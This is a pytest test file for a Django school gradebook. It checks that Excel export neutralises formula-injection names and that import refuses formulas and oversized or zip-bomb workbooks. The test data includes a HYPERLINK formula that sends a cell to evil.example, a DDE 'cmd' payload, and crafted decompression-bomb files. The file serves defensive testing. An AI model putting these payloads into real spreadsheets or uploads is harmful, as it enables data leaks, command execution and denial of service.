"""Spreadsheets cannot carry an attack to a teacher, nor take one from a teacher's file.

Attacks:
- a name (a student's, a school's, a subject's) beginning with = + - @ tab or CR, or holding
  characters XML cannot carry, written into the grade book template and the class book: it must
  arrive as text, never a formula, and must not break the file;
- an imported cell holding a formula (with or without the last result Excel kept, anywhere: a
  score, a student code, the template's marker; plain, array): refused, naming the cell, and
  nothing written (before, the score it replaced was silently emptied);
- a small .xlsx that unpacks to a huge sheet (400,000 rows, a cell in the last column, parts
  that declare hundreds of megabytes), with a true, a missing or a lying declared dimension:
  refused by name before its rows are read, quickly.
"""

from __future__ import annotations

import io
import re
import time
import zipfile
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.formula import ArrayFormula

from hocba.gradebook import excel
from hocba.gradebook.models import Assessment, ClassSubject
from hocba.gradebook.services import ValidationFailed
from hocba.organizations.models import ClassGroup

pytestmark = pytest.mark.django_db

TEACHER = "gv.chuvanan.toan.k7"
ACTIVE_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture
def toan_7a(demo) -> ClassSubject:
    group = ClassGroup.objects.get(
        school__code="25000201", name="7A", school_year__name="2024-2025"
    )
    return ClassSubject.objects.get(class_group=group, subject_code="TOAN")


def teacher():  # type: ignore[no-untyped-def]
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username=TEACHER)


def stored(cs: ClassSubject) -> list[tuple[int, object, str]]:
    return sorted(Assessment.objects.filter(class_subject=cs).values_list("pk", "score", "code"))


def clean(name: str) -> str:
    """The name as a spreadsheet can hold it: characters XML cannot carry become U+FFFD."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", name)


def sheet_xml(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]


def hostile_names() -> st.SearchStrategy[str]:
    return st.builds(
        lambda start, rest: start + rest,
        st.sampled_from(ACTIVE_STARTS),
        st.sampled_from(
            ['HYPERLINK("http://evil.example/?"&B7,"Xem điểm")', "cmd|' /C calc'!A0", "1+1",
             "SUM(1;2)", "Nguyễn Văn A"]
        )
        | st.text(min_size=1, max_size=40),
    )  # fmt: skip


# --- out ----------------------------------------------------------------------------------


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=hostile_names())
def test_a_hostile_student_name_is_exported_as_text(toan_7a, name):
    student = toan_7a.class_group.enrolments.order_by("student__full_name").first().student
    student.full_name = name
    student.save(update_fields=["full_name"])
    for content in (excel.template(toan_7a), excel.export_class_book(toan_7a.class_group)):
        for xml in sheet_xml(content):
            assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
        book = load_workbook(io.BytesIO(content))  # the file opens
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        named = [c for c in cells if c.value == clean(name)]
        assert named, "the name is in the file, as written"
        assert all(c.data_type == "s" for c in named)
        assert not any(c.data_type == "f" for c in cells)


def test_hostile_school_and_subject_names_are_text_too(toan_7a, login):
    school = toan_7a.class_group.school
    school.name = '=HYPERLINK("http://evil.example","Mở")'
    school.save(update_fields=["name"])
    ClassSubject.objects.filter(pk=toan_7a.pk).update(name="@SUM(1+1)")
    response = login("gvcn.chuvanan.7a").get(
        f"/gradebook/classes/{toan_7a.class_group.pk}/export.xlsx"
    )
    assert response.status_code == 200
    template = login(TEACHER).get(f"/gradebook/subjects/{toan_7a.pk}/template.xlsx")
    for content in (response.content, template.content):
        assert all("<f>" not in xml for xml in sheet_xml(content))


# --- in: formulas ---------------------------------------------------------------------------


def edited(content: bytes, changes: dict[str, object]) -> bytes:
    book = load_workbook(io.BytesIO(content))
    for ref, value in changes.items():
        book.active[ref] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_cached_result(content: bytes, ref: str, result: str) -> bytes:
    """What Excel saves: the formula and its last result (<v>) side by side."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                text = re.sub(
                    rf'(<c r="{ref}"[^>]*>)(<f>.*?</f>)(<v>[^<]*</v>|<v */>)?',
                    lambda m: f"{m.group(1)}{m.group(2)}<v>{result}</v>",
                    text,
                )
                data = text.encode()
            target.writestr(item, data)
    return out.getvalue()


def refused(cs: ClassSubject, content: bytes) -> list[str]:
    before = stored(cs)
    with pytest.raises(ValidationFailed) as failed:
        excel.import_workbook(teacher(), cs, content)
    assert stored(cs) == before  # nothing written
    return failed.value.errors


def test_a_formula_replacing_a_score_is_refused_by_name_not_emptied(toan_7a):
    content = excel.template(toan_7a)
    assert load_workbook(io.BytesIO(content)).active["D7"].value not in (None, "")
    errors = refused(toan_7a, edited(content, {"D7": "=5+4"}))
    assert len(errors) == 1
    message = errors[0]
    assert "“So diem”" in message and "ô D7" in message and "cột “HK I TX1”" in message
    assert "=5+4" in message and "công thức" in message


def test_a_formula_with_the_result_excel_kept_is_refused(toan_7a):
    content = edited(excel.template(toan_7a), {"E8": "=3*3"})
    errors = refused(toan_7a, with_cached_result(content, "E8", "9"))
    assert any("ô E8" in e and "=3*3" in e for e in errors)


def test_an_array_formula_is_refused(toan_7a):
    content = edited(excel.template(toan_7a), {"D9": ArrayFormula("D9:D9", "=MAX(7,8)")})
    errors = refused(toan_7a, content)
    assert any("ô D9" in e and "MAX(7,8)" in e for e in errors)


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    column=st.integers(min_value=2, max_value=12),
    row=st.integers(min_value=excel.FIRST_ROW, max_value=excel.FIRST_ROW + 8),
    formula=st.sampled_from(["=1", "=A1", '=HYPERLINK("x")', "=NOW()", '=B7&""']),
)
def test_a_formula_anywhere_in_the_rows_read_is_named(toan_7a, column, row, formula):
    from openpyxl.utils import get_column_letter

    ref = f"{get_column_letter(column)}{row}"
    errors = refused(toan_7a, edited(excel.template(toan_7a), {ref: formula}))
    assert any(f"ô {ref}" in e and formula in e for e in errors)


def test_a_formula_in_the_marker_cell_is_refused(toan_7a):
    marker = load_workbook(io.BytesIO(excel.template(toan_7a))).active["A5"].value
    errors = refused(toan_7a, edited(excel.template(toan_7a), {"A5": f'="{marker}"'}))
    assert len(errors) == 1 and "ô A5" in errors[0] and "công thức" in errors[0]


def test_the_import_page_names_the_formula_cell(toan_7a, login):
    content = edited(excel.template(toan_7a), {"D7": "=10"})
    upload = io.BytesIO(content)
    upload.name = "so-diem.xlsx"
    before = stored(toan_7a)
    page = login(TEACHER).post(
        f"/gradebook/subjects/{toan_7a.pk}/import/", {"file": upload}, follow=True
    )
    assert "ô D7" in page.content.decode() and "công thức" in page.content.decode()
    assert stored(toan_7a) == before


# --- in: sizes ------------------------------------------------------------------------------


def crafted(marker: str, body_rows: str, dimension: str | None) -> bytes:
    """A real workbook whose first sheet is replaced by a hand-made one (the template's marker
    in A5, so that only the limits can stop it)."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>"
        f'<row r="5"><c r="A5" t="inlineStr"><is><t>{escape(marker)}</t></is></c></row>'
        f"{body_rows}</sheetData></worksheet>"
    )
    base = ClientlessTemplate.content
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = (
                sheet.encode() if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            )
            target.writestr(item.filename, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


class ClientlessTemplate:
    content = b""


@pytest.fixture
def template_of(toan_7a):  # type: ignore[no-untyped-def]
    ClientlessTemplate.content = excel.template(toan_7a)
    marker = load_workbook(io.BytesIO(ClientlessTemplate.content)).active["A5"].value
    return toan_7a, marker


# rows and cells without numbers are numbered in order, as spreadsheet programs do
def short_rows(count: int) -> str:
    return "<row><c><v>1</v></c></row>" * count


def quickly_refused(cs: ClassSubject, content: bytes) -> str:
    started = time.monotonic()
    errors = refused(cs, content)
    elapsed = time.monotonic() - started
    assert elapsed < 5, f"took {elapsed:.1f} s"
    assert len(errors) == 1
    return errors[0]


@pytest.mark.parametrize("dimension", [None, "A1:A400006", "A1:D60"])
def test_sixty_kilobytes_of_four_hundred_thousand_rows_are_refused_unread(template_of, dimension):
    cs, marker = template_of
    content = crafted(marker, short_rows(400_000), dimension)
    assert len(content) < 100_000
    message = quickly_refused(cs, content)
    assert "xl/worksheets/sheet1.xml" in message and "tối đa 2048 kB" in message


def test_a_row_of_a_million_cells_is_refused_unread(template_of):
    cs, marker = template_of
    content = crafted(marker, "<row>" + "<c><v>1</v></c>" * 1_000_000 + "</row>", None)
    assert len(content) < 100_000
    assert "tối đa 2048 kB" in quickly_refused(cs, content)


def test_a_declared_dimension_past_the_limits_is_refused_before_any_row_is_read(template_of):
    cs, marker = template_of
    message = quickly_refused(cs, crafted(marker, short_rows(3), "A1:B400006"))
    assert "A1:B400006" in message and "400006 dòng" in message and "tối đa 20000 dòng" in message


@pytest.mark.parametrize("dimension", [None, "A1:D60"], ids=["undeclared", "lying"])
def test_rows_past_the_limit_are_refused_at_the_limit(template_of, dimension):
    cs, marker = template_of
    message = quickly_refused(cs, crafted(marker, short_rows(25_000), dimension))
    assert "dòng 20001" in message and "tối đa 20000 dòng" in message


def test_a_cell_in_the_last_column_is_refused(template_of):
    cs, marker = template_of
    row = '<row r="7"><c r="XFD7"><v>1</v></c></row>'
    assert "XFD7" in quickly_refused(cs, crafted(marker, row, None))
    assert "tối đa 300 cột" in quickly_refused(cs, crafted(marker, row, None))
    assert "16384 cột" in quickly_refused(cs, crafted(marker, row, "A1:XFD7"))


def test_a_part_declaring_hundreds_of_megabytes_is_refused_unread(template_of):
    cs, marker = template_of
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(crafted(marker, "", None))) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item.filename, source.read(item), compress_type=zipfile.ZIP_DEFLATED)
        target.writestr("xl/media/padding.bin", b"\0" * (300 * 1024 * 1024))
    content = out.getvalue()
    assert len(content) < 1_000_000
    message = quickly_refused(cs, content)
    assert "bung ra quá lớn" in message


def test_the_upload_page_refuses_the_inflated_workbook_by_name(template_of, login):
    cs, marker = template_of
    upload = io.BytesIO(crafted(marker, short_rows(25_000), None))
    upload.name = "so-diem.xlsx"
    page = login(TEACHER).post(
        f"/gradebook/subjects/{cs.pk}/import/", {"file": upload}, follow=True
    )
    assert "tối đa 20000 dòng" in page.content.decode()
